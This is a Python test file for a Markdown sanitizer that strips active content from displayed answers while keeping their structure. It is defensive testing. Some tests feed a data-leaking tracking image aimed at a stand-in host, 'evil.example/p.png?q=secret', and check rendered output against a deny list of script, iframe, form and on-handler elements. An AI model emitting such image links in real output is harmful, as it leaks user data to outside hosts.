"""Answers keep their Markdown and lose everything that acts."""

from __future__ import annotations

import html5lib  # type: ignore[import-untyped]
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from robotlab_nb.display.escape import plain
from robotlab_nb.display.markdown import answer_html
from robotlab_nb.display.rewrite import code_span, fence, inert, rewritten
from tests.display.trees import ALLOWED, CORPUS, PAYLOADS, SCHEMES, flat, text_of

MARKDOWN = st.lists(
    st.one_of(
        st.sampled_from([payload for payload in PAYLOADS if len(payload) < 200]),
        st.sampled_from(
            ["\n", "\n\n", "- ", "1. ", "> ", "# ", "`", "```\n", "**", "_", "[", "](", ")", "|",
             "!", "<", ">", "    ", "\\", "~~", "---\n", "$1", "&lt;", "http://a.example"]
        ),
        st.text(max_size=8),
    ),
    max_size=10,
).map("".join)  # fmt: skip


def checked(html: str) -> html5lib.HTMLParser:
    tree = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parseFragment(
        f"<div>{html}</div>"
    )
    assert len(tree) == 1
    for element in tree.iter():
        if element is tree:
            continue
        assert element.tag in ALLOWED, element.tag
        assert set(element.attrib) <= ALLOWED[element.tag], element.attrib
        assert element.get("href", "http://").lower().startswith(SCHEMES)
    return tree


@given(MARKDOWN)
@settings(max_examples=300, deadline=None)
def test_any_markdown_is_well_formed_and_inert(text: str) -> None:
    checked(answer_html(text))


@pytest.mark.parametrize("text", PAYLOADS)
def test_the_hostile_corpus_is_inert(text: str) -> None:
    checked(answer_html(text))


@given(MARKDOWN)
@settings(max_examples=200, deadline=None)
@example(r"\![track](http://evil.example/p.png)")
def test_rewritten_markdown_brings_nothing_to_life_in_a_reader_that_allows_html(text: str) -> None:
    for preset in ("commonmark", "gfm-like"):
        options = {"html": True, "linkify": False}
        html = MarkdownIt(preset, options).render(rewritten(text))
        tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
        for element in tree.iter():
            assert element.tag not in ("script", "img", "svg", "iframe", "style", "input", "form")
            assert not any(name.startswith("on") for name in element.attrib)
            assert element.get("href", "http://").lower().startswith(SCHEMES)


def test_structure_survives_being_rewritten() -> None:
    source = (
        "# Title\n\nSome *soft*, **loud** and `a<b` text, ~~gone~~, [site](https://a.example/x).\n\n"
        "- one\n- two\n  1. deep\n  2. deeper\n\n> quoted\n>\n> - inside\n\n"
        "| a | b |\n|---|--:|\n| 1 | `x|y` |\n\n```py\nif a < b:\n    pass\n```\n\n---\n\nend"
    )
    before = checked(answer_html(source))
    after = checked(answer_html(rewritten(source)))
    assert flat(text_of(after)) == flat(text_of(before))
    # Lists become loose, and headings step down once more.
    tags = [
        [e.tag for e in tree.iter() if e.tag not in ("p", "h3", "h5")] for tree in (before, after)
    ]
    assert tags[0] == tags[1]


@given(MARKDOWN)
@settings(max_examples=200, deadline=None)
def test_rewritten_markdown_says_the_same(text: str) -> None:
    before = checked(answer_html(text))
    html = (
        MarkdownIt("commonmark", {"html": True})
        .enable(["table", "strikethrough"])
        .render(rewritten(text))
    )
    after = html5lib.parseFragment(html, namespaceHTMLElements=False)
    assert flat(text_of(after)) == flat(text_of(before))


def test_links_lead_to_the_web_and_to_mail_only() -> None:
    assert '<a href="https://a.example/?q=1&amp;r=2" rel="noopener noreferrer">' in answer_html(
        "[x](https://a.example/?q=1&r=2)"
    )
    assert '<a href="mailto:a@b.example"' in answer_html("<mailto:a@b.example>")
    for link in CORPUS["links"]:
        if not link.lower().startswith(("http://", "https://")):
            assert "<a " not in answer_html(f"[x]({link})"), link


def test_a_remote_image_is_a_word_and_an_address() -> None:
    html = answer_html("![chart](http://evil.example/p.png?q=secret)")
    assert "<img" not in html
    assert "[image: chart, http://evil.example/p.png?q=secret]" in html


def test_amounts_in_answers_are_kept_apart_and_formulas_left() -> None:
    assert answer_html("from $5 to $10, $x^2$") == (
        "<p>from <span>$5</span> to <span>$10</span>, $x^2$</p>"
    )


def test_lines_stay_lines() -> None:
    assert answer_html("billing\ntechnical") == "<p>billing<br />\ntechnical</p>"


def test_a_text_that_would_take_long_to_read_is_shown_as_it_is() -> None:
    hostile = "![" * 3000
    html = answer_html(hostile)
    assert html.startswith("<pre>")
    assert hostile in html


def test_a_table_with_too_many_cells_is_shown_as_it_is() -> None:
    wide = "|a" * 700 + "|\n" + "|-" * 700 + "|\n" + "|b|\n" * 5000
    assert len(answer_html(wide)) <= 400_000


@given(st.text(max_size=60))
@settings(max_examples=200, deadline=None)
def test_escaped_text_reads_as_itself(text: str) -> None:
    parser = MarkdownIt("gfm-like", {"html": True, "linkify": False})
    shown = " ".join(plain(text).split())
    for source in (inert(shown), code_span(shown) if shown else ""):
        tree = html5lib.parseFragment(parser.render(source), namespaceHTMLElements=False)
        assert flat(text_of(tree)) == shown
    tree = html5lib.parseFragment(parser.render(fence(text)), namespaceHTMLElements=False)
    assert text_of(tree).rstrip("\n") == plain(text).rstrip("\n")
